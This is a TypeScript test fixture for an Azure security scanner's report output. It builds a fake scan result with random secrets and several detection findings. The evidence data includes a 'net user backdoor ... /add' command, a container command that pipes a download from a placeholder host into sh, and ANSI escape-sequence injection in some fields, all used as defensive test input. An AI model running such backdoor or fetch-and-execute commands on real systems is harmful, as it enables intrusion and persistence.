/**
 * Hand-made scan result for the output tests. All secrets are generated at run time (random
 * bytes), never real ones, and are returned so tests can assert they never reach a report.
 */

import { randomBytes } from "node:crypto";
import type { ScanResult } from "../../src/model/finding.js";

export const ESC = "\u001b";

export function randomBase64(bytes: number): string {
  return randomBytes(bytes).toString("base64");
}

export function randomToken(bytes = 24): string {
  return randomBytes(bytes).toString("base64url");
}

function b64url(o: unknown): string {
  return Buffer.from(JSON.stringify(o)).toString("base64url");
}

/** A structurally valid (unsigned, random) JWT. */
export function randomJwt(): string {
  return `${b64url({ alg: "RS256", typ: "JWT" })}.${b64url({ oid: randomToken(8), exp: 1 })}.${randomToken(32)}`;
}

/** A PEM block with random body; the marker words are split so scanners don't flag this file. */
export function randomPem(kind = "RSA"): { pem: string; body: string } {
  const body = randomBase64(96).replace(/(.{64})/g, "$1\n");
  const label = `${kind} PRIV${"ATE"} KEY`;
  return { pem: `-----BEGIN ${label}-----\n${body}\n-----END ${label}-----`, body };
}

export interface FixtureSecrets {
  sasSig: string;
  accountKey: string;
  password: string;
  apiKey: string;
  coverageSig: string;
}

export const SUB = "00000000-0000-0000-0000-000000000001";
export const VM_ID = `/subscriptions/${SUB}/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/vm-web-01`;
export const FUNC_ID = `/subscriptions/${SUB}/resourceGroups/rg-prod/providers/Microsoft.Web/sites/func-orders`;

export function makeResult(): { result: ScanResult; secrets: FixtureSecrets } {
  const secrets: FixtureSecrets = {
    sasSig: encodeURIComponent(randomBase64(32)),
    accountKey: randomBase64(64),
    password: `P${randomToken(12)}!`,
    apiKey: randomToken(32),
    coverageSig: encodeURIComponent(randomBase64(32)),
  };
  const sasUrl = `https://stprod.blob.core.windows.net/scripts/run.ps1?sv=2022-11-02&se=2030-01-01T00%3A00%3A00Z&sr=b&sp=r&sig=${secrets.sasSig}`;
  const connectionString = `DefaultEndpointsProtocol=https;AccountName=stprod;AccountKey=${secrets.accountKey};EndpointSuffix=core.windows.net`;

  const result: ScanResult = {
    id: "scan-20240501-0001",
    startedAt: "2024-05-01T12:00:00Z",
    finishedAt: "2024-05-01T12:00:42.123Z",
    complete: false,
    coverage: [
      {
        source: "activity-log",
        scope: `/subscriptions/${SUB}`,
        from: "2024-04-01T00:00:00Z",
        to: "2024-05-01T12:00:00Z",
        status: "complete",
        records: 1200,
      },
      {
        source: "archive",
        scope: `https://stlogs.blob.core.windows.net/insights-activity-logs?sv=2022-11-02&sig=${secrets.coverageSig}`,
        status: "partial",
        records: 34,
        reason: `HTTP 403 reading https://stlogs.blob.core.windows.net/x.json?sig=${secrets.coverageSig} after 34 records`,
      },
      {
        source: "rbac",
        scope: `/subscriptions/${SUB}`,
        status: "failed",
        records: 0,
        reason: "AuthorizationFailed: the caller cannot read role assignments",
      },
    ],
    findings: [
      {
        id: "f-0a1b2c3d4e5f",
        ruleId: "AEA-VM-001",
        title: `VM run command \u001b[31mexecuted\u001b[0m\nfake second line`,
        severity: "high",
        attack: { tactics: ["execution"], techniques: ["T1651"] },
        atrm: ["AZT301.1"],
        subscriptionId: SUB,
        resourceId: `${VM_ID}${ESC}[2J${ESC}[H${ESC}]0;pwned\u0007\nx/runCommands/rc1`,
        principal: { id: "11111111-1111-1111-1111-111111111111", name: "mallory@contoso.example", type: "User" },
        time: "2024-05-01T10:00:00Z",
        operation: "Microsoft.Compute/virtualMachines/runCommand/action",
        status: "new",
        evidence: {
          kind: "activity",
          records: [{ kind: "activity", id: "evt-1", location: "activity.jsonl", index: 3 }],
          operationName: "Microsoft.Compute/virtualMachines/runCommand/action",
          occurrences: 1,
          outcome: "succeeded",
          matched: { commandLine: `net user backdoor ${secrets.password} /add` },
        },
      },
      {
        id: "f-ffeeddccbbaa",
        ruleId: "AEA-FUNC-002",
        title: "Function app runs a package from an external URL",
        severity: "critical",
        attack: { tactics: ["execution", "persistence"], techniques: ["T1648"] },
        subscriptionId: SUB,
        resourceId: FUNC_ID,
        principal: { appId: "22222222-2222-2222-2222-222222222222", type: "ServicePrincipal" },
        time: "2024-05-01T09:00:00Z",
        evidence: {
          kind: "configuration",
          records: [{ kind: "functionApp", id: FUNC_ID }],
          matched: {
            scriptUri: sasUrl,
            connectionString,
            appSettings: {
              AzureWebJobsStorage: connectionString,
              WEBSITE_RUN_FROM_PACKAGE: sasUrl,
              FUNCTIONS_WORKER_RUNTIME: "powershell",
              MY_API_KEY: secrets.apiKey,
            },
          },
        },
      },
      {
        id: "f-123456789abc",
        ruleId: "AEA-ACI-003",
        title: "Container group started with a shell entrypoint",
        severity: "medium",
        attack: { tactics: ["execution"], techniques: ["T1610", "T1059.004"] },
        resourceId: `/subscriptions/${SUB}/resourceGroups/rg-dev/providers/Microsoft.ContainerInstance/containerGroups/cg1`,
        principal: {},
        time: "2024-05-01T11:30:00Z",
        evidence: {
          kind: "payload",
          records: [{ kind: "resource", id: "cg1" }],
          vector: "Container Instances",
          payloads: [
            {
              kind: "command",
              path: "properties.containers[0].properties.command",
              content: "sh -c 'curl https://example.invalid/x.sh | sh'",
              truncated: false,
              vector: "Container Instances",
            },
          ],
          matched: { huge: "A".repeat(20_000) },
        },
      },
    ],
    rules: [
      {
        id: "AEA-VM-001",
        title: "VM run command executed",
        description: "A run command executed a script on a virtual machine.",
        level: "high",
        techniques: ["T1651"],
        tactics: ["execution"],
        atrm: ["AZT301.1"],
        falsepositives: ["Administrators running maintenance scripts"],
        references: ["https://attack.mitre.org/techniques/T1651/"],
      },
      {
        id: "AEA-FUNC-002",
        title: "Function app package from external URL",
        level: "critical",
        techniques: ["T1648"],
        tactics: ["execution", "persistence"],
      },
    ],
    diagnostics: [],
  };
  return { result, secrets };
}
